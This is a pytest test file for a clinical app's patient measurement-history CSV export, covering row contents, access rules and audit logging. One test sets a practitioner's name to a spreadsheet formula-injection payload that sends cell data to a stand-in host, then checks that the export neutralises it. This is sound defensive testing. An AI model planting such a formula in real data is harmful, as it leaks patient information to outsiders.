"""The measurement-history CSV: one row per measurement, round-trips through the csv module,
formula cells neutralised, numbers kept as numbers; access rules and audit."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest

from conftest import make_account

COLUMNS = ["date", "plan_id", "diagnosis", "visit_id", "measure", "label", "side", "phase",
           "value", "unit", "note_status", "author"]


def day(n: int) -> str:
    return (date.today() - timedelta(days=n)).isoformat()


def build(api, mrn="RSC-5001"):
    patient = api.post("/api/v1/patients", json={
        "given_name": "Eve", "family_name": "Lamb", "birth_date": "1990-01-01", "mrn": mrn}
    ).get_json()
    plan = api.post(f"/api/v1/patients/{patient['id']}/plans", json={
        "start_date": day(10), "weeks": 6, "visits_per_week": 2, "diagnosis_code": "M54.32",
        "goals": [{"measure": "pain", "target": 2}, {"measure": "slr", "side": "left",
                                                     "target": 70}]}).get_json()
    signed = api.post(f"/api/v1/plans/{plan['id']}/visits", json={
        "visit_date": day(7), "subjective": "S.", "objective": "O.", "assessment": "A.",
        "plan": "P.", "measurements": [
            {"measure": "pain", "value": 6.5}, {"measure": "pain", "phase": "post", "value": 4},
            {"measure": "slr", "side": "left", "value": 40}]}).get_json()
    api.post(f"/api/v1/visits/{signed['id']}/sign", json={})
    draft = api.post(f"/api/v1/plans/{plan['id']}/visits", json={
        "visit_date": day(3), "measurements": [{"measure": "pain", "value": 5}]}).get_json()
    return patient, plan, signed, draft


def read_csv(response) -> list[dict]:
    assert response.status_code == 200, response.get_json()
    assert response.mimetype == "text/csv"
    text = response.data.decode("utf-8-sig")
    assert response.data.startswith("\ufeff".encode())  # spreadsheets read it as UTF-8
    assert "\r\n" in text
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == COLUMNS
    return list(reader)


def test_one_row_per_measurement_round_trips(api, practitioner):
    patient, plan, signed, draft = build(api)
    response = api.get(f"/api/v1/patients/{patient['id']}/measurements.csv")
    rows = read_csv(response)
    assert f'filename="measurements-patient-{patient["id"]}-{date.today()}.csv"' in \
        response.headers["Content-Disposition"]
    assert [(r["date"], r["measure"], r["side"], r["phase"], r["value"], r["unit"],
             r["note_status"]) for r in rows] == [
        (day(7), "pain", "", "pre", "6.5", "score", "signed"),
        (day(7), "pain", "", "post", "4", "score", "signed"),
        (day(7), "slr", "left", "pre", "40", "deg", "signed"),
        (day(3), "pain", "", "pre", "5", "score", "draft"),
    ]
    first = rows[0]
    assert first["plan_id"] == str(plan["id"]) and first["diagnosis"] == "M54.32"
    assert first["visit_id"] == str(signed["id"]) and first["author"] == "Pat Physio"
    assert first["label"] == "Pain now, 0–10 numeric rating (NPRS)"
    assert rows[2]["label"] == "Straight-leg raise, angle at symptom onset"
    assert all(float(r["value"]) >= 0 for r in rows)


def test_formula_cells_are_neutralised(app, api, as_account, practitioner):
    evil = make_account(app, "evil@example.org", "practitioner",
                        name='=HYPERLINK("http://x.invalid/?"&A1,"Click")')
    patient, plan, _, _ = build(api)
    api.post(f"/api/v1/patients/{patient['id']}/care-team", json={"user_id": evil.id})
    note = as_account(evil).post(f"/api/v1/plans/{plan['id']}/visits", json={
        "visit_date": day(1), "measurements": [{"measure": "pain", "value": 3}]}).get_json()
    assert note["author"]["name"].startswith("=")
    rows = read_csv(api.get(f"/api/v1/patients/{patient['id']}/measurements.csv"))
    author = rows[-1]["author"]
    assert author == "'" + '=HYPERLINK("http://x.invalid/?"&A1,"Click")'
    # No cell of the file starts a formula.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                float(value)  # only numbers may start with a minus sign


def test_patient_gets_only_signed_rows_of_their_own_record(app, api, as_account):
    patient, _, _, _ = build(api)
    own = as_account(make_account(app, "eve@example.org", "patient", patient_id=patient["id"]))
    rows = read_csv(own.get(f"/api/v1/patients/{patient['id']}/measurements.csv"))
    assert len(rows) == 3 and {r["note_status"] for r in rows} == {"signed"}
    other, _, _, _ = build(api, mrn="RSC-5002")
    assert own.get(f"/api/v1/patients/{other['id']}/measurements.csv").status_code == 404


def test_access_and_audit(api, client, as_account, other_practitioner, director, audit_log,
                          practitioner):
    patient, _, _, _ = build(api)
    url = f"/api/v1/patients/{patient['id']}/measurements.csv"
    audit_log.mark()
    api.get(url)
    [row] = audit_log.new()
    assert (row["action"], row["kind"], row["patient_id"], row["user_id"], row["detail"]) == (
        "export", "measurements", patient["id"], practitioner.id,
        "measurement history CSV, 4 rows")
    assert as_account(other_practitioner).get(url).status_code == 404
    [row] = audit_log.new()
    assert row["outcome"] == "denied"
    assert len(read_csv(as_account(director).get(url))) == 4
    assert client.get(url).status_code == 401


@pytest.mark.parametrize("path", ["/api/v1/patients/{id}/fhir",
                                  "/api/v1/patients/{id}/measurements.csv"])
def test_openapi_documents_the_exports(client, path):
    spec = client.get("/api/openapi.json").get_json()
    operation = spec["paths"][path.replace("{id}", "{patient_id}")]["get"]
    assert set(operation["responses"]) >= {"200", "401", "404"}
